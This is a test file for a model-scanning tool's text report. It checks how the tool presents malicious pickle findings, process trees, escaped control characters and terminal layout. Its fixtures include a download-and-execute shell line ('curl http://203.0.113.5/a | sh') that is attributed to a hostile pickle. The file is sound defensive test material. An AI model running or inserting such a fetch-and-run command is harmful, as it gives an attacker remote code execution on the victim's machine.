import { stripVTControlCharacters } from 'node:util';
import { describe, expect, it } from 'vitest';
import { makeDocument } from '../../src/report/json.js';
import { drawProcesses } from '../../src/report/process-lines.js';
import type { ProcessNode, ScanReport } from '../../src/core/schema.js';
import { formatBytes, formatSeconds } from '../../src/report/terminal.js';
import { formatText, type TextOptions } from '../../src/report/text.js';
import { finding, HOSTILE, inconclusive, malicious, RAW_CONTROL, scan } from './samples.js';

function show(scans: ScanReport[], color = false, width = 80): string {
  return formatText(makeDocument(scans), { color, width });
}

function detailed(scans: ScanReport[]): string {
  return formatText(makeDocument(scans), { color: false, width: 80, details: true });
}

const FETCHES = malicious({
  model: { path: 'models/a_evil.pkl', format: 'pickle', size: 101, sha256: 'ab'.repeat(32) },
  findings: [
    finding({
      rule: 'STATIC-PICKLE-EXEC',
      engine: 'static',
      title: 'The file starts a program when it is loaded',
      evidence: [{ text: 'asks for posix.system', offset: 47 }],
      cause: { pickle: { global: 'posix.system', offset: 47 } },
    }),
    finding({
      rule: 'DYN-EXEC-FETCH',
      story: 'posix.system at byte 47',
      subject: "sh -c 'curl http://203.0.113.5/a | sh'",
      facts: { argv: ['sh', '-c', 'curl http://203.0.113.5/a | sh'] },
      evidence: [{ text: 'execve(…)', pid: 28, time: 0.13, line: 497 }],
      advice: 'Do not load it; ask its author for SafeTensors.',
    }),
    finding({
      rule: 'DYN-EXEC-FETCH',
      story: 'posix.system at byte 47',
      subject: 'curl http://203.0.113.5/a',
      facts: { argv: ['curl', 'http://203.0.113.5/a'] },
      evidence: [{ text: 'execve(…)', pid: 29, time: 0.16, line: 650 }],
    }),
    finding({ rule: 'DYN-INFO', severity: 'info', title: 'Slept', evidence: [] }),
  ],
  processes: [
    { pid: 1, thread: false, argv: ['python3', '/runner.py'], start: 0 },
    { pid: 28, parent: 1, thread: false, argv: ['sh', '-c', 'curl http://203.0.113.5/a | sh'], start: 0.13 },
    { pid: 29, parent: 28, thread: false, argv: ['curl', 'http://203.0.113.5/a'], start: 0.16 },
    { pid: 30, parent: 28, thread: false, argv: ['sh'], start: 0.19 },
  ],
  conversations: [
    {
      protocol: 'HTTP',
      address: '203.0.113.5',
      port: 80,
      pid: 29,
      request: { line: 'GET /a HTTP/1.1', headers: [] },
      sent: '',
      received: '',
      bytesSent: 76,
      bytesReceived: 144,
      result: 'The sandbox answered in place of the network.',
    },
  ],
});

it('tells what a hostile model does in one sentence and a few lines, each act once', () => {
  expect(show([FETCHES])).toBe(`✖ MALICIOUS  models/a_evil.pkl                          Python pickle, 101 bytes
  Starts a shell that downloads a program and runs it when it is loaded.

    0.13 s  sh -c 'curl http://203.0.113.5/a | sh'
    0.16 s  ├ curl → 203.0.113.5:80  GET /a  (the sandbox answered)
    0.19 s  └ sh   runs what came back
    cause     posix.system at byte 47

  critical  STATIC-PICKLE-EXEC  posix.system                      byte 47
  critical  DYN-EXEC-FETCH      sh -c 'curl http://203.0.113.5/…  trace 497, 650
  → Do not load this file.

details: --details · one rule: dynscan show STATIC-PICKLE-EXEC · page: --format
html
`);
});

it('keeps hash, output, evidence, the whole process tree and ATT&CK for --details', () => {
  const apart = [/sha256 +abab/, /python3 \/runner\.py/, /T1059\.004/, /trace line 497: execve/];
  for (const detail of apart) {
    expect(show([FETCHES])).not.toMatch(detail);
    expect(detailed([FETCHES])).toMatch(detail);
  }
});

it('says of a harmless model one line', () => {
  expect(show([scan()])).toBe('✔ clean  models/iris.pkl  nothing found, read and run\n');
});

it('says of a model that was not seen why, and what that means', () => {
  expect(show([inconclusive()])).toBe(`? NOT SEEN  models/iris.pkl                               Python pickle, 2.0 KiB
  Could not be loaded (ValueError: no), so not all that it does was seen.
  Loading the model raised ValueError: no, so what the model does after that was
  not seen.
`);
  expect(detailed([inconclusive()])).toContain(`
  error     ValueError: no
  in        load (/usr/lib/python3.13/pickle.py:1254)
`);
});

it('says which image was made for the model, and why', () => {
  const why = ['the project has Python 3.11 (uv.lock)'];
  const variant = { python: '3.11', packages: ['scikit-learn==1.3.*'], why };
  const sandbox = { image: 'dynscan-sandbox:core-1', engine: 'Docker', skippedSleep: 0, variant };
  expect(detailed([scan({ sandbox })])).toContain(
    '\n  run with  Python 3.11, scikit-learn==1.3.*: the project has Python 3.11\n            (uv.lock)\n',
  );
});

describe('many models', () => {
  const named = (path: string, report: ScanReport): ScanReport => ({
    ...report,
    model: { ...report.model, path: `/w/models/${path}` },
  });
  const behind = (offset: number): ScanReport =>
    scan({
      verdict: 'inconclusive',
      reasons: [`1 byte after the end at byte ${offset} is no pickle.`],
      coverage: {
        gaps: [{ kind: 'static', text: `1 byte after the end at byte ${offset} is no pickle.` }],
        ifClean: '',
      },
    });
  const needs = scan({
    verdict: 'inconclusive',
    reasons: ['The sandbox image lacks a module.'],
    load: { outcome: 'missing-dependency', missing: 'mymodel' },
  });
  const document = makeDocument(
    [
      named('z.pkl', scan()),
      named('net.pt', needs),
      ...Array.from({ length: 36 }, (_, n) => named(`p${n}.pkl`, behind(n))),
      named('a_evil.pkl', FETCHES),
    ],
    { leftOut: [{ path: '/w/models/locked', reason: 'unreadable', text: 'It cannot be opened.' }] },
  );
  const options: TextOptions = {
    color: false,
    width: 80,
    nameOf: (path) => path.replace('/w/models/', ''),
    folder: 'models/',
    seconds: 192,
    exitCode: 1,
  };

  it('are a table, the worst first and equal reasons folded, and only the hostile one is told', () => {
    const lines = formatText(document, options).split('\n');
    expect(lines.slice(0, 9)).toEqual([
      'dynscan 0.0.0-source · 39 models in models/ · read, not run · 192 s',
      '',
      ' ✖ malicious      1  a_evil.pkl  starts a shell that downloads a program and',
      '                                 runs it',
      ' ? not seen      37  net.pt     needs mymodel',
      '                     36 models  1 byte after the end at byte … is no pickle',
      '                                --all lists them',
      ' ✔ clean          1',
      ' – left out       1  locked (could not be opened)',
    ]);
    expect(lines.filter((line) => /^[✖!?✔] [A-Z]/.test(line))).toHaveLength(1);
    expect(lines).toContain('1 malicious, 37 not seen, 1 clean, 1 left out, so the whole is not seen · exit 1');
  });

  it('are all listed with --all', () => {
    const text = formatText(document, { ...options, all: true });
    for (let n = 0; n < 36; n++) expect(text).toContain(` p${n}.pkl `);
    expect(text).toContain('z.pkl');
  });

  it('hide no suppression', () => {
    const suppression = { rule: 'DYN-EXEC-SHELL', sha256: 'ab'.repeat(32), reason: 'our own build step', by: 'mara' };
    const report = scan({ suppressed: [{ finding: finding(), suppression }] });
    expect(show([scan(), report])).toContain('Suppressed by mara: our own build step');
  });
});

describe('whatever a model is called, prints or does', () => {
  const hostile = malicious({
    model: { path: `dir/${HOSTILE}`, format: HOSTILE, size: 1, sha256: HOSTILE },
    reasons: [HOSTILE],
    findings: [
      finding({
        rule: HOSTILE,
        title: HOSTILE,
        explanation: HOSTILE,
        attack: HOSTILE,
        advice: HOSTILE,
        evidence: [{ text: HOSTILE, member: HOSTILE, offset: 1 }],
        cause: {
          frames: [{ file: HOSTILE, line: 1, function: HOSTILE }],
          pickle: { global: HOSTILE, member: HOSTILE },
        },
      }),
    ],
    load: {
      outcome: 'raised',
      type: HOSTILE,
      error: {
        type: HOSTILE,
        message: HOSTILE,
        phase: 'load',
        frames: [{ file: HOSTILE, line: 1, function: HOSTILE }],
      },
    },
    processes: [
      { pid: 1, thread: false, argv: [HOSTILE, HOSTILE] },
      { pid: 2, parent: 1, thread: false, argv: [HOSTILE], signal: HOSTILE },
    ],
    conversations: [
      {
        protocol: HOSTILE,
        address: HOSTILE,
        name: HOSTILE,
        pid: 1,
        sent: HOSTILE,
        received: HOSTILE,
        bytesSent: 0,
        bytesReceived: 0,
        result: HOSTILE,
      },
    ],
    output: { stdout: HOSTILE, stderr: HOSTILE, omittedBytes: 0 },
  });

  it('reaches the terminal escaped', () => {
    const text = show([hostile, scan()]);
    expect(text).not.toMatch(RAW_CONTROL);
    expect(text).toContain('MALICIOUS  dir/a\\x1b[31m\\x9b2J\\u{202e}gnp.exe\\n\\u{200b}\\u{e0041}\\r\\x07z');
    expect(detailed([hostile, scan()])).not.toMatch(RAW_CONTROL);
  });

  it('adds no escape sequence to those that colour the report', () => {
    const colored = show([hostile], true);
    expect(stripVTControlCharacters(colored)).toBe(show([hostile]));
    expect(colored).not.toBe(show([hostile]));
  });

  it('stays inside the columns of the terminal', () => {
    const wide = malicious({
      model: { path: '模型'.repeat(60), format: 'pickle', size: 1 },
      findings: [finding({ explanation: 'x'.repeat(500), evidence: [{ text: 'y'.repeat(500) }] })],
      processes: [
        { pid: 1, thread: false, argv: ['z'.repeat(500)] },
        { pid: 2, parent: 1, thread: false, argv: ['界'.repeat(500)] },
      ],
    });
    const widths = show([wide, hostile])
      .split('\n')
      .map((line) => line.length + (line.match(/[\u4e00-\u9fff]/g) ?? []).length);
    expect(Math.max(...widths)).toBeLessThanOrEqual(80);
  });
});

it('keeps forty findings readable: a line for each rule, worst first', () => {
  const many = malicious({
    findings: [
      ...Array.from({ length: 10 }, (_, n) =>
        finding({ severity: 'low', rule: 'DYN-LOW', title: 'Little', explanation: `low ${n}` }),
      ),
      ...Array.from({ length: 30 }, (_, n) => finding({ explanation: `PID ${n} runs a shell.` })),
    ],
  });
  const lines = show([many]).split('\n');
  expect(lines.filter((line) => /^ {2}(critical|low)/.test(line)).map((line) => line.trim().split(/ +/)[1])).toEqual([
    'DYN-EXEC-SHELL',
    'DYN-LOW',
  ]);
  expect(lines.length).toBeLessThan(14);
  const all = detailed([many]).split('\n');
  expect(all.filter((line) => /PID \d+ runs a shell\. \[while loading\]/.test(line))).toHaveLength(30);
  expect(all.join('\n')).not.toContain('the JSON report has them all');
});

it('shows all evidence and what took how long in the details', () => {
  const evidence = Array.from({ length: 5 }, (_, line) => ({ line: line + 1, text: `execve("/bin/sh${line}")` }));
  const report = malicious({ findings: [finding({ evidence })], durations: { static: 0.01, run: 1.5, total: 1.6 } });
  expect(show([report])).not.toContain('/bin/sh0');
  const all = detailed([report]);
  for (const { text } of evidence) expect(all).toContain(text);
  expect(all).not.toContain('more)');
  expect(all).toContain('static 0.01 s, run 1.50 s, total 1.60 s');
});

describe('a process tree', () => {
  const node = (pid: number, parent?: number): ProcessNode => ({
    pid,
    thread: false,
    argv: [`p${pid}`],
    ...(parent === undefined ? {} : { parent }),
  });

  it('shows processes whose parents form a circle or were never seen', () => {
    expect(
      drawProcesses({ processes: [node(1), node(2, 3), node(3, 2), node(4, 4), node(5, 99)], findings: [] }, 80, 40),
    ).toEqual(['1  p1', '4  p4', '5  p5', '2  p2', '└─ 3  p3']);
  });

  it('draws a chain of ten thousand forks in bounded space and counts the rest', () => {
    const chain = Array.from({ length: 10_000 }, (_, n) => node(n + 1, n === 0 ? undefined : n));
    const lines = drawProcesses({ processes: chain, findings: [] }, 80, 40);
    expect(lines).toHaveLength(41);
    expect(lines.at(-1)).toBe('… and 9960 more; the JSON report has them all.');
    expect(Math.max(...lines.map((line) => line.length))).toBeLessThanOrEqual(80);
  });
});

it.each([
  [0, '0 bytes'],
  [1, '1 byte'],
  [1023, '1023 bytes'],
  [1024, '1.0 KiB'],
  [400 * 2 ** 20, '400.0 MiB'],
  [2 ** 50, '1024.0 TiB'],
])('writes %d bytes as %s', (bytes, text) => {
  expect(formatBytes(bytes)).toBe(text);
});

it('writes short times with a tenth and long ones without', () => {
  expect([formatSeconds(0.25), formatSeconds(3600)]).toEqual(['0.3 s', '3,600 s']);
});
